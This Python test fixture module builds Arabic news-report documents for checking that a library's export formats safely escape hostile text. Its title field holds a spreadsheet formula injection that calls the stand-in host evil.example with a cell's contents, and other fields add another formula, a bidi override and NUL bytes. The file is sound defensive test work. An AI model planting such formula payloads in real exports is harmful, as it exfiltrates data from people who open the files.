"""Documents made by hand, with everything in them that a format may trip over.

In: nothing. Out: documents ordered by id, and helpers that write and read back.
The idea: titles and outlets are written by strangers: formulas, NUL, quotation marks, line ends, bidi controls, markup.
"""

from __future__ import annotations

import csv
import importlib
import io
import os
from typing import Any

import pytest

from riwaya.exchange.base import Counts, Options
from riwaya.exchange.cells import unprotect
from riwaya.exchange.formats import FORMATS
from riwaya.records import (
    Acled,
    Actor,
    Agency,
    Control,
    Cue,
    Dateline,
    Document,
    Event,
    EventDate,
    Framing,
    Link,
    Place,
    PlaceCandidate,
    Published,
    Quantity,
    Report,
    Said,
    Span,
    Statement,
    Time,
    Toll,
)  # fmt: skip

TEXT = (
    "بنغازي ـ وكالات\r\n"
    'قال مصدر أمني لوكالة الرمال إن «مسلحين قتلوا سبعة مدنيين على الأقل و3 جنود، "أمس"، قرب سبها\u200f».\n'
    "+ونفى الجيش قصف المدينة 😀\t، وطالب بوقف القتال."
)
TITLE = '=HYPERLINK("http://evil.example/?"&A1;"انقر")\x00'
OUTLET = "\u202e@الخليج\u202c"
NOTHING = Document(
    schema="riwaya/1", id="", sentences=[], times=[], quantities=[], places=[], actors=[], statements=[], events=[], control=[],
    framings=[], warnings=[],
    report=Report(
        title=None, section=None, outlet=None, url=None, language="ar", published=None, datelines=[], agencies=[], text="",
    ),
)  # fmt: skip


def at(words: str, text: str = TEXT) -> Span:
    """The span of the first such words."""
    start = text.index(words)
    return start, start + len(words)


def actor(id: str, words: str, **fields: Any) -> Actor:
    given: dict[str, Any] = dict(
        entity=None, name=None, name_ar=None, kind="unknown", country=None, sector=None, role=None, framing=None, antecedent=None
    )
    return Actor(id=id, span=at(words), text=words, **(given | fields))


def place(id: str, words: str, **fields: Any) -> Place:
    given: dict[str, Any] = dict(
        name="Sabha", name_ar="سبها", gazetteer="geonames:2212775", kind="settlement", country="LY", admin1="Sabha", lat=27.038,
        lon=14.428, radius_km=5.0, relation=None, score=0.9,
    )  # fmt: skip
    return Place(id=id, span=at(words), text=words, **(given | fields))


def event(id: str, words: str, **fields: Any) -> Event:
    given: dict[str, Any] = dict(
        type="ASSAULT", mode=None, acled=None, cameo=None, actor=[], recipient=[], place=[], date=None, tolls=[], weapon=None,
        modality="occurred", background=False, statement=None, rule="made:up", score=0.8,
    )  # fmt: skip
    return Event(id=id, span=at(words), text=words, **(given | fields))


def quantity(id: str, words: str, low: int | None, high: int | None, **fields: Any) -> Quantity:
    given: dict[str, Any] = dict(value=low, operator="exact", counts="people")
    return Quantity(id=id, span=at(words), text=words, low=low, high=high, **(given | fields))


def statement(id: str, content: str, cue: str, **fields: Any) -> Statement:
    given: dict[str, Any] = dict(mode="indirect", stance="assert", chain=[], said=None, venue=None, parent=None, rule="made:up")
    return Statement(id=id, span=at(content), text=content, cue=Cue(span=at(cue), text=cue, lemma=cue), **(given | fields))


def link(role: Any, words: str, actor: str | None, name: str | None, anonymous: bool = False) -> Link:
    return Link(role=role, span=at(words), text=words, actor=actor, name=name, anonymous=anonymous)


QUOTE = TEXT[TEXT.index("«") + 1 : TEXT.index("»")]
YESTERDAY = EventDate(start="2025-03-03", end="2025-03-04", precision="day", time="t1", basis="stated")
UNSTATED = EventDate(start=None, end="2025-03-04", precision="vague", time=None, basis="published")


def full() -> Document:
    """A document with every record and every kind of voice."""
    lines = TEXT.split("\n")
    ends = [len("\n".join(lines[: number + 1])) for number in range(len(lines))]
    return Document(
        schema="riwaya/1",
        id="news/تقرير 1.txt",
        report=Report(
            title=TITLE, section='أخبار "عاجلة"', outlet=OUTLET, url="https://example.org/a?b=1&c=2", language="ar",
            published=Published(value="2025-03-04T08:20", basis="given"), text=TEXT, encoding="utf-8",
            datelines=[Dateline(span=at("بنغازي"), text="بنغازي")],
            agencies=[Agency(span=at("وكالات"), text="وكالات", name="news agencies")],
        ),
        sentences=[(0, ends[0]), (ends[0] + 1, ends[1]), (ends[1] + 1, ends[2])],
        times=[
            Time(
                id="t1", span=at("أمس"), text="أمس", value="2025-03-03", start="2025-03-03", end="2025-03-04", precision="day",
                kind="date", basis="published", conflict=None,
            ),
        ],
        quantities=[
            quantity("q1", "سبعة مدنيين على الأقل", 7, None, operator="at_least"),
            quantity("q2", "3", 3, 3),
        ],
        places=[
            place("p1", "بنغازي", name="Libya", kind="country", gazetteer=None, admin1=None, radius_km=748.4),
            place("p2", "قرب سبها", relation="near", radius_km=15.0, candidates=[
                PlaceCandidate(gazetteer="geonames:1", name="Sabha", country="JO", lat=32.3, lon=36.5, score=0.2),
            ]),
            place("p3", "المدينة", lat=None, lon=None, radius_km=None, gazetteer=None, antecedent="p2"),
        ],
        actors=[
            actor("a1", "مصدر أمني", kind="anonymous_source", name="security source"),
            actor("a2", "وكالة الرمال", kind="media", entity="rimal", name="Rimal Agency", name_ar="وكالة الرمال", country="SD"),
            actor("a3", "مسلحين", kind="armed_group", name="gunmen"),
            actor("a4", "سبعة مدنيين", kind="people", name="civilians"),
            actor("a5", "الجيش", kind="military", entity="libyan-army", name="Libyan Army", name_ar="الجيش الليبي", country="LY"),
        ],
        statements=[
            statement("s1", QUOTE, "قال", mode="direct", said=Said(time="t1", value="2025-03-03"), venue="بيان", chain=[
                link("origin", "مصدر أمني", "a1", "security source", True), link("relay", "وكالة الرمال", "a2", "Rimal Agency"),
            ]),
            statement("s2", "قصف المدينة 😀", "نفى", stance="deny", chain=[link("origin", "الجيش", "a5", "Libyan Army")]),
            statement("s3", "سبعة مدنيين على الأقل", "إن", parent="s1"),
        ],
        events=[
            event(
                "e1", "قتلوا", acled=Acled(event_type="Violence against civilians", sub_event_type="Attack"), cameo="180",
                mode="firearms", actor=["a3"], recipient=["a4"], place=["p1", "p2"], date=YESTERDAY, statement="s1",
                weapon='=1+1"\n',
                tolls=[Toll(quantity="q1", effect="killed", who="civilians"), Toll(quantity="q2", effect="killed", who="soldiers")],
            ),
            event(
                "e2", "قصف", acled=Acled(event_type="Battles", sub_event_type="Armed clash"), actor=["a5"], place=["p3"],
                date=UNSTATED, statement="s2",
            ),
            event("e3", "القتال", type="REQUEST", modality="demanded"),
            event(
                "e4", "قتل", type="PROTEST", mode="demo", background=True, actor=["a5"],
                acled=Acled(event_type="Protests", sub_event_type="Peaceful protest"),
            ),
        ],
        control=[
            Control(
                id="c1", span=at("المدينة"), text="المدينة", holder="a5", place="p2", change="holds", date=None, statement="s2",
            ),
        ],
        framings=[Framing(span=at("مسلحين"), text="مسلحين", neutral="gunmen", loaded_for="a5", by="s1")],
        warnings=["-odd"],
    )  # fmt: skip


def documents() -> list[Document]:
    """A document without anything, and one with everything, ordered by id."""
    import msgspec

    return [msgspec.structs.replace(NOTHING, id="a-empty"), full()]


def export(name: str, given: list[Document] | None = None, **options: Any) -> tuple[bytes, Counts]:
    """What a format writes, which is the same when it is written again."""
    entry = FORMATS[name]
    chosen = Options(**options)
    first, second = io.BytesIO(), io.BytesIO()
    given = documents() if given is None else given
    counts = entry.write(iter(given), first, chosen)
    entry.write(iter(given), second, chosen)
    assert first.getvalue() == second.getvalue()
    return first.getvalue(), counts


def csv_rows(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file, cells as they were before they were protected."""
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)
    return [{name: unprotect(cell) for name, cell in row.items()} for row in reader]


def consumer(name: str) -> Any:
    """A program that opens exports; without it the test is skipped, or fails where RIWAYA_CONSUMERS is `required`."""
    if os.environ.get("RIWAYA_CONSUMERS") == "required":
        return importlib.import_module(name)
    return pytest.importorskip(name)
